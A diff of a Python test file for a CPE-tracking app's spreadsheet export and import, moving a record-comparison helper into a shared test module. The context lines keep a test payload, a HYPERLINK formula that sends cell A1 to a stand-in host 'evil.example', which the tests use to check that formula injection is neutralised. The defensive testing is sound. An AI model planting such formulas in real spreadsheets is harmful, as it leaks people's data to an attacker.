@@ -24,7 +24,7 @@ from cpe_desktop.services.interchange.mapped_import import import_mapped, previe
 from cpe_desktop.services.interchange.mapping import guess_mapping
 from cpe_desktop.services.interchange.tabular import read_table
 from cpe_desktop.services.interchange.xlsx_format import export_records_xlsx
-from tests.interchange_data import other_database, table_counts, two_people_document
+from tests.interchange_data import other_database, saved_records, table_counts, two_people_document
 
 PAYLOADS = {
     "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -60,23 +60,6 @@ def _cells(path: Path) -> list[tuple]:
         return [tuple(row) for row in book.active.iter_rows(values_only=True)]
     finally:
         book.close()
-
-
-def _saved(user: User) -> list[tuple]:
-    query = CpeRecord.select().where(CpeRecord.user == user.user_id)
-    return sorted(
-        (
-            r.completed_on.isoformat(),
-            r.title,
-            r.sponsor,
-            r.sponsor_id,
-            r.delivery_method,
-            r.ethics_jurisdiction,
-            r.notes,
-            tuple(sorted((c.field_of_study, c.credits) for c in r.credits)),
-        )
-        for r in query
-    )
 
 
 # --- export ---------------------------------------------------------------------------------------
@@ -167,7 +150,7 @@ def test_formula_payloads_are_neutralised_and_come_back_on_import(system, alice,
     bob = users.create_user(system, {"name": "Bob", "email": "bob@example.com"}).value
     table = read_table(path)
     assert import_mapped(system, table, guess_mapping(table.headers), bob).records_added == 1
-    assert _saved(bob) == _saved(alice)
+    assert saved_records(bob) == saved_records(alice)
 
 
 def test_leading_tab_and_control_characters_in_stored_data_are_made_safe(system, alice, tmp_path):
@@ -194,13 +177,13 @@ def test_a_one_person_export_imports_into_another_database_unchanged(seeded, sys
     import_document(system, two_people_document())
     path = tmp_path / "alice.xlsx"
     export_file(system, path, "xlsx", user_email="alice@example.com")
-    original = _saved(User.get(User.email == "alice@example.com"))
+    original = saved_records(User.get(User.email == "alice@example.com"))
 
     with other_database(tmp_path / "other.db", seeded):
         carol = users.create_user(system, {"name": "Carol", "email": "carol@example.com"}).value
         summary = import_file(system, path)
         assert summary.records_added == 12
-        assert _saved(carol) == original
+        assert saved_records(carol) == original
         assert import_file(system, path).records_skipped == 12
 
 
@@ -244,7 +227,7 @@ def test_a_hand_kept_workbook_with_real_dates_numbers_and_a_chosen_sheet(system,
     summary = import_mapped(system, table, guess_mapping(table.headers), alice)
 
     assert summary.records_added == 3
-    assert _saved(alice) == [
+    assert saved_records(alice) == [
         ("2025-03-02", "Tax update", None, "103456", "Group Live", None, None,
          (("Taxes", Decimal("4.00")),)),
         ("2025-03-03", "Ethics", None, "103456", "QAS Self Study", None, "7",
